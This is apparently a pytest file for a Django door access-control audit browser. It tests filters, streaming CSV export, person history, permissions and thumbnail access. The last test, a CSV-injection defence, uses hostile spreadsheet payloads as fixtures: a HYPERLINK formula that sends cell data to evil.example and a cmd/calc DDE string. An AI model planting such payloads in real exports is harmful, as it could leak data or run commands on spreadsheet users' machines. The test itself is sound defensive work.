"""Audit browser: filters, streaming CSV export, person history, constant queries, thumbnails."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import reverse

from accessctl.codes import Decision, Reason
from accessctl.models import Door, Person
from tests.accessctl.helpers import event_make, user_create

pytestmark = pytest.mark.django_db

T0 = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)


@pytest.fixture
def auditor():
    return user_create("aude", "accessctl.view_accessevent")


@pytest.fixture
def log() -> dict:
    main, dock = Door.objects.create(name="Main entrance"), Door.objects.create(name="Loading dock")
    ada = Person.objects.create(name="Ada Lovelace", external_id="E-1")
    bob = Person.objects.create(name="Bob Builder")
    events = {
        "ada_main": event_make(door_id=main.pk, person_id=ada.pk, subject_uid=ada.uid, decision=Decision.GRANT,
                               reason=Reason.MATCHED, similarity=0.8, occurred_at=T0),
        "bob_dock": event_make(door_id=dock.pk, person_id=bob.pk, reason=Reason.OUTSIDE_SCHEDULE,
                               occurred_at=T0 + dt.timedelta(hours=1)),
        "unknown_main": event_make(door_id=main.pk, occurred_at=T0 + dt.timedelta(hours=2)),
        "ada_dock": event_make(door_id=dock.pk, person_id=ada.pk, subject_uid=ada.uid, reason=Reason.NOT_IN_GROUP,
                               occurred_at=T0 + dt.timedelta(days=1)),
    }  # fmt: skip
    return {"main": main, "dock": dock, "ada": ada, "bob": bob, **events}


def _ids(response) -> list[int]:
    return [e.pk for e in response.context["events"]]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({}, ["ada_dock", "unknown_main", "bob_dock", "ada_main"]),
        ({"door": "main"}, ["unknown_main", "ada_main"]),
        ({"person": "ada"}, ["ada_dock", "ada_main"]),
        ({"person": "E-1"}, ["ada_dock", "ada_main"]),
        ({"decision": "grant"}, ["ada_main"]),
        ({"reason": ["outside_schedule", "not_in_group"]}, ["ada_dock", "bob_dock"]),
        ({"since": "2026-03-02T09:30", "until": "2026-03-02T12:00"}, ["unknown_main", "bob_dock"]),
        ({"door": "dock", "decision": "deny", "since": "2026-03-03T00:00"}, ["ada_dock"]),
    ],
)
def test_filters(client, auditor, log, settings, query, expected) -> None:
    settings.TIME_ZONE = "UTC"
    client.force_login(auditor)
    params = {k: (log[v].pk if k == "door" else v) for k, v in query.items()}
    response = client.get(reverse("audit_list"), params)
    assert response.status_code == 200
    assert _ids(response) == [log[name].pk for name in expected]


def test_invalid_range_is_reported_not_applied(client, auditor, log) -> None:
    client.force_login(auditor)
    response = client.get(reverse("audit_list"), {"since": "2026-03-03T00:00", "until": "2026-03-02T00:00"})
    assert "Must be after the start" in response.content.decode()


def test_csv_export_streams_the_filtered_log(client, auditor, log) -> None:
    client.force_login(auditor)
    response = client.get(reverse("audit_export"), {"door": log["main"].pk})
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="access-events-')
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [int(r["id"]) for r in rows] == [log["unknown_main"].pk, log["ada_main"].pk]
    assert rows[1]["person"] == "Ada Lovelace" and rows[1]["person_external_id"] == "E-1"
    assert rows[1]["decision"] == "grant" and rows[1]["similarity"] == "0.8000"
    assert rows[1]["hash"] == log["ada_main"].hash

    by_person = client.get(reverse("audit_export"), {"person_id": log["bob"].pk})
    rows = list(csv.DictReader(io.StringIO(b"".join(by_person.streaming_content).decode())))
    assert [int(r["id"]) for r in rows] == [log["bob_dock"].pk]


def test_person_history_shows_only_that_person(client, auditor, log) -> None:
    client.force_login(auditor)
    response = client.get(reverse("person_history", args=[log["ada"].pk]))
    assert response.status_code == 200
    assert _ids(response) == [log["ada_dock"].pk, log["ada_main"].pk]
    assert "Ada Lovelace" in response.content.decode()
    filtered = client.get(reverse("person_history", args=[log["ada"].pk]), {"door": log["main"].pk})
    assert _ids(filtered) == [log["ada_main"].pk]
    assert client.get(reverse("person_history", args=[99999])).status_code == 404


def test_audit_pages_need_the_view_permission(client, log) -> None:
    assert client.get(reverse("audit_list")).status_code == 302  # login first
    client.force_login(user_create("wanda", "accessctl.view_dashboard"))
    for url in (reverse("audit_list"), reverse("audit_export"), reverse("person_history", args=[log["ada"].pk])):
        assert client.get(url).status_code == 403


def test_list_queries_do_not_grow_with_the_page(client, auditor, log, django_assert_num_queries) -> None:
    client.force_login(auditor)
    url = reverse("audit_list")
    client.get(url)  # warm the session and permission caches of this client
    # session, user, user perms, group perms, count, page (with door/person/device/actor), doors for the filter
    with django_assert_num_queries(7):
        client.get(url)
    for i in range(30):
        event_make(door_id=log["dock"].pk, person_id=log["bob"].pk, occurred_at=T0 + dt.timedelta(minutes=i))
    with django_assert_num_queries(7):
        response = client.get(url)
    assert len(response.context["events"]) == 34


def test_thumbnails_are_served_only_to_authorised_users(client, auditor, media_root) -> None:
    name = default_storage.save("crops/known/2026/03/02/face.jpg", ContentFile(b"\xff\xd8\xff\xe0fake-jpeg"))
    event = event_make(snapshot=name)
    url = reverse("event_thumbnail", args=[event.pk])
    assert client.get(url).status_code == 302  # anonymous: to the login page, never the file
    client.force_login(user_create("nobody"))
    assert client.get(url).status_code == 404
    client.force_login(auditor)
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert b"".join(response.streaming_content).startswith(b"\xff\xd8\xff")
    assert "private" in response["Cache-Control"]
    assert client.get(reverse("event_thumbnail", args=[event_make().pk])).status_code == 404


def test_dashboard_renders_state_for_watchers_only(client, log) -> None:
    client.force_login(user_create("nobody"))
    response = client.get(reverse("dashboard"))
    assert response.status_code == 200 and "Ada Lovelace" not in response.content.decode()
    assert "may not watch the live dashboard" in response.content.decode()
    client.force_login(user_create("wanda", "accessctl.view_dashboard"))
    page = client.get(reverse("dashboard")).content.decode()
    assert "Main entrance" in page and "Ada Lovelace" in page and f'data-door-id="{log["main"].pk}"' in page
    assert "Lock down all doors" not in page  # no operate permission: no action buttons


def _export_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_csv_export_quotes_formula_cells(client, async_client, auditor) -> None:
    """CSV injection: names that a spreadsheet would run as formulas are exported as text."""
    from asgiref.sync import async_to_sync

    evil_door = Door.objects.create(name='=HYPERLINK("https://evil.example/?d="&A1,"open")')
    evil_person = Person.objects.create(name="+1+cmd|' /C calc'!A0", external_id="-2+3")
    event = event_make(
        door_id=evil_door.pk, person_id=evil_person.pk, device_uid="@SUM(1,2)", similarity=-0.25, margin=-0.5
    )
    tabbed = Door.objects.create(name="\t=1+1")
    event_make(door_id=tabbed.pk, device_uid="\rcam", occurred_at=T0 + dt.timedelta(minutes=1))
    client.force_login(auditor)
    async_client.force_login(auditor)

    async def via_asgi() -> bytes:
        response = await async_client.get(reverse("audit_export"))
        return b"".join([chunk async for chunk in response.streaming_content])

    sync_rows = _export_rows(b"".join(client.get(reverse("audit_export")).streaming_content))
    for rows in (sync_rows, _export_rows(async_to_sync(via_asgi)())):
        by_id = {int(r["id"]): r for r in rows}
        row = by_id[event.pk]
        assert row["door"] == "'" + evil_door.name
        assert row["person"] == "'" + evil_person.name and row["person_external_id"] == "'-2+3"
        assert row["device_uid"] == "'@SUM(1,2)"
        assert row["similarity"] == "-0.2500" and row["margin"] == "-0.5000"  # numbers stay numbers
        other = next(r for r in rows if int(r["id"]) != event.pk)
        assert other["door"] == "'\t=1+1" and other["device_uid"] == "'\rcam"
        for cell in (c for r in rows for c in r.values()):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
